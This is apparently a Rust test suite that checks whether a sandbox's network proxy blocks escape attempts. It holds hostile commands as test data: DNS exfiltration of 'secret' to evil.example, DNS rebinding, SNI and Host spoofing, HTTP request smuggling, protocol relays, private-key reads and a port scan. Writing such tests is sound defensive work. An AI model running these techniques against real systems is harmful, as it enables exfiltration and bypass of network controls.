//! Rows of the list of escapes, each first as it is, which the machine behind must see, then inside.

use serde_json::{Value, json};

use super::{Done, Row, curl, inside, inside_with, outside, world, world_with};
use crate::support::{Scene, each_user};

/// One way out.
struct Try {
    sh: String,
    /// What the machine behind writes down where it works.
    seen: &'static str,
    /// What is said where it does not.
    said: &'static str,
}

impl Try {
    fn new(sh: String, seen: &'static str, said: &'static str) -> Self {
        Self { sh, seen, said }
    }
}

/// Tries each outside, where it must work, and inside, where it must not.
fn hold(scene: &Scene, settings: &Value, env: &Value, tries: &[Try]) {
    let rows = tries.iter().flat_map(|one| [outside(&one.sh), inside(&one.sh)]).collect::<Vec<Row>>();
    let is_seen = |done: &Done, one: &Try| done.seen.iter().any(|line| line.contains(one.seen));
    for (one, done) in tries.iter().zip(world_with(scene, settings, env, &rows).chunks(2)) {
        let [control, held] = done else { panic!("two for each") };
        assert!(is_seen(control, one), "the control: {}\n{}", one.sh, control.text());
        assert!(!is_seen(held, one), "{}\n{}", one.sh, held.text());
        let text = format!("{}{}", held.out, held.error);
        assert!(text.contains(one.said), "it says `{}`: {}\n{}", one.said, one.sh, held.text());
    }
}

fn network(allowed: &[&str]) -> Value {
    json!({"sandbox": {"network": {"allowedDomains": allowed}}})
}

/// Returns the command of a client that sends what it likes.
fn raw(scene: &Scene) -> String {
    let script = scene.write("world/raw.py", include_str!("raw.py"));
    format!("python3 {}", script.display())
}

/// Rows 130, 131, 143 to 145: what a name carries, and where it leads.
#[test]
fn names_lead_where_they_were_checked() {
    each_user(|scene| {
        let curl = curl(scene);
        let bare = super::BARE;
        let allowed = ["*.good.example", "turns.example", "both.example", "alias.example"];
        let tries = [
            Try::new("getent hosts c2VjcmV0.evil.example".to_owned(), "asked c2VjcmV0.evil.example", ""),
            // The second answer leads inside.
            Try::new(
                format!("{curl} http://turns.example/hello.txt; {curl} --fail http://turns.example/hello.txt"),
                "tcp 10.9.9.9:80",
                "it leads to 10.9.9.9, which is a private address",
            ),
            Try::new(
                format!(
                    "{bare} {curl} http://turns.example/hello.txt; {bare} {curl} --fail http://turns.example/hello.txt"
                ),
                "tcp 10.9.9.9:80",
                "it leads to 10.9.9.9, which is a private address",
            ),
            Try::new(
                format!("{curl} --fail http://alias.example/hello.txt"),
                "tcp 10.9.9.9:80",
                "it leads to 10.9.9.9, which is a private address",
            ),
        ];
        hold(scene, &network(&allowed), &json!({}), &tries);
        let rows = [
            inside(format!("{curl} http://turns.example/hello.txt")),
            // An address of the other family leads inside; the other does not.
            inside(format!("{curl} http://both.example/hello.txt")),
            // What an allowed name carries gets out, and is written down.
            inside(format!("{curl} http://word.good.example/hello.txt")),
        ];
        let done = world(scene, &network(&allowed), &rows);
        for done in &done {
            assert_eq!(done.out, "hello\n", "{}", done.text());
        }
        let asked =
            |done: &Done| done.seen.iter().filter(|line| line.starts_with("asked")).cloned().collect::<Vec<_>>();
        assert_eq!(asked(&done[0]), ["asked turns.example 1"], "one lookup: {}", done[0].text());
        let records = scene.journal();
        let is_recorded = records.iter().any(|record| record["connection"]["target"] == "word.good.example:80");
        assert!(is_recorded, "{}", done[2].text());
    });
}

/// Rows 148 to 150, 159 and 165: what is said on an allowed connection, and to other ports.
#[test]
fn what_is_said_is_for_the_host() {
    each_user(|scene| {
        let (raw, cert) = (raw(scene), scene.text("world/cert.pem"));
        let client = |words: &str| {
            format!(
                "(printf 'GET /marked HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n'; sleep 0.3) | openssl s_client -quiet \
                 -CAfile {cert} ${{HTTP_PROXY:+-proxy 127.0.0.1:3128}} -connect good.example:443 {words}"
            )
        };
        let get = "GET / HTTP/1.1\\r\\nHost: raw.example\\r\\n";
        let tries = [
            Try::new(client("-noservername"), "/marked", ""),
            Try::new(client("-servername evil.example"), "/marked", "for `evil.example`"),
            Try::new(client("-servername 93.184.216.34"), "/marked", ""),
            Try::new(format!("{raw} raw.example 443 'SSH-2.0-probe\\r\\n'"), "heard 443", ""),
            Try::new(format!("{raw} raw.example 80 'SSH-2.0-probe\\r\\n'"), "heard 80", ""),
            Try::new(format!("{raw} raw.example 80 '{get}\\r\\nGET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'"), "evil", "evil.example"),
            Try::new(
                format!("{raw} raw.example 80 '{get}Content-Length: 3\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /marked HTTP/1.1\\r\\n\\r\\n'"),
                "/marked",
                "400 ",
            ),
            Try::new(
                format!(
                    "{raw} raw.example 80 '@PROXYPOST http://raw.example/ HTTP/1.1\\r\\nHost: raw.example\\r\\nContent-Length: 1\\r\\nContent-Length: 40\\r\\n\\r\\n0GET /marked HTTP/1.1\\r\\n\\r\\n\
                     @DIRECT{get}Content-Length: 1\\r\\nContent-Length: 40\\r\\n\\r\\n0GET /marked HTTP/1.1\\r\\n\\r\\n'"
                ),
                "/marked",
                "400 ",
            ),
            // A relay for other protocols.
            Try::new(format!("{raw} raw.example 25 'EHLO probe\\r\\n'"), "heard 25", "403 "),
            Try::new(format!("{raw} raw.example 22 'SSH-2.0-probe\\r\\n'"), "heard 22", "403 "),
            Try::new(
                format!("{raw} raw.example 80 '@PROXY\\x05\\x01\\x00\\x05\\x02\\x00\\x03\\x0braw.example\\x00\\x50@DIRECTBIND'"),
                "heard 80",
                "\u{5}\u{7}",
            ),
            // git by its own protocol and by another program.
            Try::new("git ls-remote git://raw.example/tool.git".to_owned(), "tcp 93.184.216.36:9418", ""),
            Try::new(
                "GIT_SSH_COMMAND='ssh -oBatchMode=yes -oProxyCommand=none -oConnectTimeout=2 -oStrictHostKeyChecking=no' timeout 3 \
                 git ls-remote ssh://git@raw.example/tool.git"
                    .to_owned(),
                "tcp 93.184.216.36:22",
                "",
            ),
        ];
        hold(scene, &network(&["good.example", "raw.example"]), &json!({}), &tries);
    });
}

/// Rows 149, 161 and 162: where TLS ends at the proxy.
#[test]
fn tls_that_ends_at_the_proxy_holds() {
    each_user(|scene| {
        let insecure = "curl --silent --show-error --max-time 20 --insecure --fail";
        let settings =
            |more: Value| json!({"sandbox": {"network": {"tlsTerminate": more, "allowedDomains": ["good.example"]}}});
        let cert = scene.text("world/cert.pem");
        let other = format!("{insecure} --header 'Host: evil.example' https://good.example/hello.txt");
        let tries = [Try::new(other, "request 93.184.216.34 evil.example", "421")];
        hold(scene, &settings(json!({})), &json!({"SSL_CERT_FILE": cert}), &tries);
        // Nobody vouches for the server's certificate: no client gets there, whatever it would believe itself.
        let plain = format!("{insecure} https://good.example/hello.txt");
        let tries = [Try::new(plain.clone(), "request 93.184.216.34 good.example", "502")];
        hold(scene, &settings(json!({})), &json!({}), &tries);
        // The key is in memory alone, or hidden; nobody else is told to believe its certificate.
        let (own, key) = (scene.text("own.pem"), scene.text("own.key"));
        let made = scene.bash(&format!(
            "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=own \
             -addext basicConstraints=critical,CA:TRUE -keyout {key} -out {own}"
        ));
        assert_eq!(made.run().code, 0);
        let stores = "cat /etc/ssl/certs/ca-certificates.crt ~/.pki ~/.config/* 2>/dev/null | sha256sum";
        let look = format!("{plain}; cat {key}; grep -rl 'PRIVATE KEY' /run /etc/ssl/certs /tmp 2>/dev/null; true");
        let rows = [outside(stores), outside(format!("cat {key}")), inside(look), outside(stores)];
        let given = settings(json!({"caCertPath": own, "caKeyPath": key}));
        for (number, given) in [given, settings(json!({}))].iter().enumerate() {
            let done = world_with(scene, given, &json!({"SSL_CERT_FILE": cert}), &rows);
            assert!(done[1].out.contains("PRIVATE KEY"), "the control: {}", done[1].text());
            assert_eq!(done[0].out, done[3].out);
            assert!(done[2].out.starts_with("hello\n"), "{}", done[2].text());
            // Where the run has an authority of its own the file is a file like others.
            if number == 0 {
                assert_eq!(done[2].out, "hello\n", "{}", done[2].text());
                assert!(
                    done[2].error.contains("Permission denied") || done[2].error.contains("No such file"),
                    "{}",
                    done[2].text()
                );
            } else {
                assert_eq!(done[2].out.matches("BEGIN PRIVATE KEY").count(), 1, "{}", done[2].text());
            }
        }
    });
}

/// Rows 157, 158 and 171: who reaches what listens inside.
#[test]
fn what_listens_inside_is_the_commands_own() {
    each_user(|scene| {
        let (curl, program) = (curl(scene), scene.program());
        let wait = |file: &str| format!("for i in $(seq 300); do test -e {file} && break; sleep 0.05; done");
        let serve = "python3 -c 'import http.server as h,socketserver as s; s.TCPServer.allow_reuse_address=True; \
                     s.ThreadingTCPServer((\"0.0.0.0\",8099),h.SimpleHTTPRequestHandler).serve_forever()'";
        let reach = format!(
            "{curl} --noproxy '*' http://127.0.0.1:8099/ready; {curl} --noproxy '*' http://93.184.216.1:8099/ready"
        );
        let up = format!(
            "for i in $(seq 100); do {curl} --noproxy '*' http://127.0.0.1:8099/ready 2>/dev/null && break; sleep 0.05; done"
        );
        let held = format!("{serve} 2> log & {up}; touch serving; {}; kill $!", wait("done"));
        let rows = [
            // A port of the command's own: reached where it is, and from nowhere else.
            outside("echo reached > ready".to_owned()),
            outside(format!("{serve} 2> /dev/null & sleep 0.5; {reach}; kill $!")),
            outside(format!("rm -f done; {program} run --quiet -- sh -c {} & {}; {reach}; touch done; wait", quoted(&held), wait("serving"))),
            // The proxy of another command, which may reach more, and that of none.
            outside(format!(
                "rm -f done ready; {program} run --quiet --allow-domain evil.example -- sh -c {} & {}; {curl} --proxy http://127.0.0.1:3128 --fail http://evil.example/hello.txt; \
                 {program} run -- {curl} --fail http://evil.example/hello.txt; touch done; wait",
                quoted(&format!("{curl} http://evil.example/hello.txt; touch ready; {}", wait("done"))),
                wait("ready"),
            )),
            // Nothing but the proxy, and what takes programs to it, listens; and the proxy has nothing to say about itself.
            inside_with(
                &["--quiet"],
                "python3 -c 'import socket\nfor port in range(1,65536):\n  s=socket.socket()\n  if not s.connect_ex((\"127.0.0.1\",port)) and s.getsockname()[1]!=port: print(port)\n  s.close()'".to_owned(),
            ),
            inside(format!("for path in / /status /config /metrics; do {curl} --noproxy '*' --output /dev/null --write-out '%{{http_code}} ' http://127.0.0.1:3128$path; done")),
        ];
        let done = world(scene, &network(&["good.example"]), &rows);
        assert_eq!(done[1].out, "reached\nreached\n", "the control: {}", done[1].text());
        assert_eq!(done[2].out, "reached\n", "{}", done[2].text());
        assert_eq!(done[2].error.matches("Failed to connect").count(), 2, "{}", done[2].text());
        assert_eq!(done[3].out, "hello\n", "{}", done[3].text());
        assert!(done[3].error.contains("Failed to connect to 127.0.0.1 port 3128"), "{}", done[3].text());
        assert!(done[3].error.contains("evil.example:80: no rule allows it"), "{}", done[3].text());
        assert_eq!(done[4].out, "80\n443\n3128\n", "{}", done[4].text());
        assert_eq!(done[5].out, "400 400 400 400 ", "{}", done[5].text());
    });
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}
